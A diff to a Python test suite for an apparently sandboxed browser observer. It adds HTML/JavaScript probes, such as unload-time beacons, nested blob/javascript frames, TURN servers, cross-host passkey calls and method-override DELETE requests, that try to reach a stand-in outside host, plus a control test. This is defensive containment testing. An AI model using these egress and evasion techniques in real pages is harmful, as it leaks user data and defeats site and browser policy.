@@ -89,6 +89,36 @@ VECTORS: dict[str, str] = {
     "navigator.credentials?.get({identity: {providers: [{configURL: 'AWAY/f.json', clientId: 'x'}]}}).catch(() => 0)</script>",
     "advertising": "<script>try { navigator.joinAdInterestGroup({owner: 'AWAY', name: 'x', biddingLogicURL: 'AWAY/bid'}, 9)"
     ".catch(() => 0) } catch {}; try { sharedStorage.worklet.addModule('AWAY/s.js').catch(() => 0) } catch {}</script>",
+    "imports": '<script type=importmap>{"imports": {"x": "AWAY/importmap.js"}}</script><script type=module>import "x"</script>'
+    "<script>for (const type of ['json', 'css']) import('AWAY/typed', {with: {type}}).catch(() => 0)</script>",
+    "old elements": "<body background=AWAY/background><table background=AWAY/table><tr><td background=AWAY/td></table><input type=image src=AWAY/input>"
+    "<video><track default src=AWAY/track></video><picture><source srcset=AWAY/source><img></picture><frameset><frame src=AWAY/frame></frameset>"
+    "<svg><script href=AWAY/svgscript></script><feImage href=AWAY/fe /><filter id=f><feImage href=AWAY/fe2 /></filter></svg><link rel=import href=AWAY/import>",
+    "more styles": "<style>@import 'AWAY/layered' layer(x); div { mask: url(AWAY/mask); filter: url(AWAY/filter#x); clip-path: url(AWAY/clip#x);"
+    "list-style-image: image-set(url(AWAY/list) 1x); border-image: url(AWAY/border) 1; content: url(AWAY/content); shape-outside: url(AWAY/shape)}</style><div>x</div>",
+    "attributes that report": "<img attributionsrc=AWAY/attribution src=/x><a id=a href=#x attributionsrc=AWAY/click>x</a><script attributionsrc=AWAY/scripted src=/x>"
+    "</script><iframe src=AWAY/topics browsingtopics sharedstoragewritable></iframe><script>a.click(); window.open('/y', '_blank', 'attributionsrc=' + encodeURIComponent('AWAY/opened'))</script>",
+    "turn servers": "<script>for (const u of ['turn:127.0.0.1:OTHER?transport=tcp', 'turns:127.0.0.1:OTHER?transport=tcp', 'stun:127.0.0.1:OTHER']) try {"
+    "const c = new RTCPeerConnection({iceTransportPolicy: u[0] == 't' ? 'relay' : 'all', iceServers: [{urls: u, username: 'u', credential: 'p'}]});"
+    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {}</script>",
+    "passkeys of another host": "<script>try { navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: 'localhost', allowCredentials: []}})"
+    ".catch(() => 0); navigator.credentials.create({publicKey: {challenge: new Uint8Array(8), rp: {id: 'example.com', name: 'x'}, user: {id: new Uint8Array(1),"
+    " name: 'x', displayName: 'x'}, pubKeyCredParams: []}}).catch(() => 0) } catch {}</script>",
+    "screens and media": "<script>try { new PresentationRequest(['AWAY/presentation']).start().catch(() => 0) } catch {}; try { navigator.mediaSession.metadata ="
+    " new MediaMetadata({artwork: [{src: 'AWAY/artwork'}]}) } catch {}; try { new Notification('x', {icon: 'AWAY/icon'}) } catch {}</script><audio src=/x autoplay></audio>",
+    "the last moment": "<script>for (const e of ['pagehide', 'unload', 'beforeunload', 'visibilitychange']) addEventListener(e, () => {"
+    "navigator.sendBeacon('OWN/late', e); navigator.sendBeacon('AWAY/late', e); fetch('AWAY/last', {keepalive: true, mode: 'no-cors'}).catch(() => 0) })</script>",
+    "frames of frames": "<iframe src=\"data:text/html,<iframe srcdoc='<script>fetch(`AWAY/inner`, {mode: `no-cors`}).catch(() => 0)</script>'></iframe>\"></iframe>"
+    "<script>const b = new Blob(['<script>fetch(`AWAY/blob`, {mode: `no-cors`}).catch(() => 0); fetch(`OWN/blob`, {method: `PUT`, mode: `no-cors`}).catch(() => 0)<' + '/script>'],"
+    " {type: 'text/html'}); const f = document.createElement('iframe'); f.src = URL.createObjectURL(b); document.documentElement.append(f);"
+    "const j = document.createElement('iframe'); j.src = 'javascript:fetch(`AWAY/js`, {mode: `no-cors`}).catch(() => 0)'; document.documentElement.append(j)</script>",
+    "other programs": "".join(f"<iframe src='{scheme}:x'></iframe>" for scheme in ("mailto", "tel", "intent", "ms-settings", "vscode", "view-source", "filesystem:OWN/x", "chrome", "devtools")),
+    "policies that report": "<iframe csp=\"default-src 'none'; report-uri AWAY/embedded\" src=/reports></iframe><script>try { new ReportingObserver(() => 0).observe();"
+    "document.createElement('iframe').allow = 'x' } catch {}; try { trustedTypes.createPolicy('x', {}) } catch {}</script>",
+    "streams": "<script>WebAssembly.compileStreaming?.(fetch('AWAY/wasm', {mode: 'no-cors'})).catch(() => 0); try { new Worker('AWAY/worker.js') } catch {};"
+    "try { const c = new AudioContext(); c.audioWorklet.addModule('AWAY/audio.js').catch(() => 0) } catch {}; try { new FontFace('x', 'url(AWAY/face)').load().catch(() => 0) } catch {}</script>",
+    "methods in disguise": "<script>for (const [k, v] of [['X-HTTP-Method-Override', 'DELETE'], ['X_Method_Override', 'PUT']]) fetch('OWN/disguised?_method=x', {headers: {[k]: v}})"
+    ".catch(() => 0); fetch('OWN/disguised2?_method=DELETE').catch(() => 0)</script>",
     "caches": "<script>globalThis.caches?.open('x').then(c => c.add('AWAY/c')).catch(() => 0)</script>",
     "reports": "<img src=/blocked><script>eval('1')</script>",
     "style of a document": "",
@@ -190,6 +220,7 @@ async def test_no_page_reaches_another_host_or_writes_to_its_own(scheme: str, tm
                 assert session.recording is not None
                 assert [one.model_dump_json() for one in await session.recording.exchanges()], name
             assert "GET /bye" in sites.asked_own, name
+            assert not [asked for asked in sites.asked_own if "disguised" in asked], name
             assert [asked for asked in sites.asked_own if asked.split()[0] not in READING] == [], name
             assert sites.asked_away == [], name
 
@@ -210,3 +241,24 @@ async def test_a_page_with_halves_of_letters_is_observed() -> None:
         seen = await observer.observe(f"{sites.own}/halves", sites.policy)
     assert seen.model_dump_json()
     assert "Party ?" in seen.pages[0].text_after
+
+
+async def test_where_nothing_forbids_them_the_attempts_arrive() -> None:
+    """The control: without it a page that tries nothing would pass for one that is held."""
+    wanted = {
+        "imports": {"/importmap.js", "/typed"},
+        "old elements": {"/background", "/table", "/td", "/input", "/svgscript", "/fe"},
+        "more styles": {"/layered", "/list", "/border", "/mask", "/shape"},
+        "the last moment": {"/late", "/last"},
+        "frames of frames": {"/inner", "/blob", "/js"},
+        "streams": {"/wasm", "/face"},
+    }
+    async with serving(None) as sites, BrowserPool() as pool:
+        rules = tuple(HostRule(host="127.0.0.1", port=int(one.rsplit(":", 1)[1])) for one in (sites.own, sites.away))
+        policy = sites.policy.model_copy(update={"hosts": rules, "methods": ("GET", "HEAD", "POST", "PUT")})
+        for name, paths in wanted.items():
+            sites.asked_away.clear()
+            async with open_page(pool, policy) as session:
+                await visit(session, sites, name)
+            arrived = {asked.split()[1] for asked in sites.asked_away}
+            assert paths <= arrived, (name, arrived)
